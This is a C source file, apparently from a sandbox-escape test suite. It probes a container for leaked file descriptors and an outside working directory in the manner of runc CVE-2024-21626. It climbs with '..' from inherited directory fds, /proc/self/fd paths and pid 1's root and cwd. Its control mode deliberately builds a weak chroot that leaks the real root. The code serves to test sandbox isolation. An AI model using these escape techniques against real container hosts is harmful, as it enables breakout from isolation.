// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * esc_fds - leaked file descriptors and working directories (runc
 * CVE-2024-21626, and the older "fd to the host root left open" bugs).
 *
 * runc leaked an fd of the host's /sys/fs/cgroup into the container; with
 * `process.cwd = /proc/self/fd/7` the container started with its working
 * directory outside its root, and `../../..` reached the host. Here, from
 * inside, we:
 *   - list every open fd 0..1024 (anything but 0, 1, 2 is a leak),
 *   - check that the starting cwd is inside our root,
 *   - fchdir() to every directory fd and chdir("/proc/self/fd/N"),
 *   - climb with openat(fd, "..") from each of them, and from the root/cwd
 *     of pid 1 and of our parent,
 * and call it an escape when we reach a directory on a mount that is not in
 * our mount namespace or a top that is not our own root.
 *
 *   esc_fds             the attack
 *   esc_fds --control   leaks an fd of "/" and chroots into a scratch tmpfs
 *                       (a deliberately weak sandbox): must escape
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "esc.h"

#define MAX_FD 1024

static struct stat root_st;

/* Climb from @fd with "..", report where it ends. */
static void climb(const char *label, int fd)
{
	char what[300];
	struct stat st;
	int cur = dup(fd), next, i;
	unsigned long long id;

	esc_fmt(what, sizeof(what), "climb out of the root from %s", label);
	if (cur < 0) {
		esc_refused(what, errno);
		return;
	}
	for (i = 0; i < 64; i++) {
		id = esc_mnt_id_of_fd(cur);
		if (id && !esc_mnt_id_visible(id)) {
			esc_escaped(what, "reached mount %llu, not in our mount namespace", id);
			close(cur);
			return;
		}
		next = openat(cur, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (next < 0)
			break;
		close(cur);
		cur = next;
	}
	if (fstat(cur, &st) == 0 && (st.st_dev != root_st.st_dev || st.st_ino != root_st.st_ino)) {
		esc_escaped(what, "the top reached is dev %lu ino %lu, not our root",
			    (unsigned long)st.st_dev, (unsigned long)st.st_ino);
	} else {
		esc_refused(what, EPERM);
	}
	close(cur);
}

/* Use @path as working directory, then look where we are. */
static void try_cwd(const char *label, const char *path, int fd)
{
	char what[300], cwd[4096];
	int r = path ? chdir(path) : fchdir(fd);
	int here;

	esc_fmt(what, sizeof(what), "make %s the working directory", label);
	if (r < 0) {
		esc_refused(what, errno);
		return;
	}
	if (!getcwd(cwd, sizeof(cwd)) || cwd[0] != '/') {
		esc_escaped(what, "cwd is outside our root (getcwd: %s)",
			    errno ? strerror(errno) : cwd);
	} else {
		here = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (here >= 0) {
			climb(label, here);
			close(here);
		}
		esc_info("%s: cwd %s", label, cwd);
	}
	if (chdir("/") < 0)
		perror("chdir /");
}

static int walk(void)
{
	bool open_fds[MAX_FD + 1] = { false };
	char what[300], link[4096], path[64];
	int fd, leaks = 0, here;
	ssize_t n;
	struct stat st;

	/* Take the list before we open anything ourselves. */
	for (fd = 0; fd <= MAX_FD; fd++)
		open_fds[fd] = fcntl(fd, F_GETFD) >= 0;

	if (stat("/", &root_st) < 0) {
		perror("stat /");
		return 2;
	}

	/* The cwd we were started in. */
	if (!getcwd(link, sizeof(link)) || link[0] != '/') {
		esc_escaped("start in a cwd inside the root", "the initial cwd is outside (%s)",
			    errno ? strerror(errno) : link);
	} else {
		here = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
		esc_info("initial cwd %s", link);
		if (here >= 0) {
			climb("the initial cwd", here);
			close(here);
		}
	}

	for (fd = 0; fd <= MAX_FD; fd++) {
		if (!open_fds[fd])
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, link, sizeof(link) - 1);
		link[n < 0 ? 0 : n] = 0;
		if (fd > 2) {
			leaks++;
			esc_escaped(esc_fmt(what, sizeof(what), "inherit fd %d", fd),
				    "fd %d is open: %s", fd, link);
		} else {
			esc_info("fd %d -> %s", fd, link);
		}
		if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
			climb(esc_fmt(what, sizeof(what), "fd %d (%s)", fd, link), fd);
			try_cwd(esc_fmt(what, sizeof(what), "fd %d (fchdir)", fd), NULL, fd);
		}
		try_cwd(esc_fmt(what, sizeof(what), "/proc/self/fd/%d", fd), path, -1);
	}
	if (!leaks)
		esc_refused("find an inherited fd above 2", EBADF);

	/* The root and cwd of the processes that set us up. */
	{
		static const char *const which[] = { "root", "cwd" };
		pid_t pids[2] = { 1, getppid() };
		int i, j, d;

		for (i = 0; i < 2; i++) {
			if (pids[i] <= 0 || pids[i] == getpid() || (i == 1 && pids[1] == 1))
				continue;
			for (j = 0; j < 2; j++) {
				snprintf(path, sizeof(path), "/proc/%d/%s", pids[i], which[j]);
				d = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
				if (d < 0) {
					esc_refused(esc_fmt(what, sizeof(what), "open %s", path),
						    errno);
					continue;
				}
				climb(path, d);
				close(d);
			}
		}
	}
	return esc_finish();
}

static int control(void)
{
	char dir[] = "/tmp/vesc-fds-XXXXXX", p[64];
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	if (fd < 0 || dup2(fd, 9) < 0) {
		perror("esc_fds: open /");
		return 2;
	}
	if (fd != 9)
		close(fd);
	if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 ||
	    !mkdtemp(dir) || mount("vesc", dir, "tmpfs", 0, NULL) < 0) {
		perror("esc_fds: control setup");
		return 2;
	}
	snprintf(p, sizeof(p), "%s/proc", dir);
	if (mkdir(p, 0755) < 0 || mount("proc", p, "proc", 0, NULL) < 0 || chroot(dir) < 0 ||
	    chdir("/") < 0) {
		perror("esc_fds: control chroot");
		return 2;
	}
	esc_info("control: chroot into a scratch tmpfs with fd 9 left open on the real root");
	return walk();
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (esc_is_control(argc, argv))
		return control();
	if (argc != 1) {
		fprintf(stderr, "usage: esc_fds [--control]\n");
		return 2;
	}
	return walk();
}
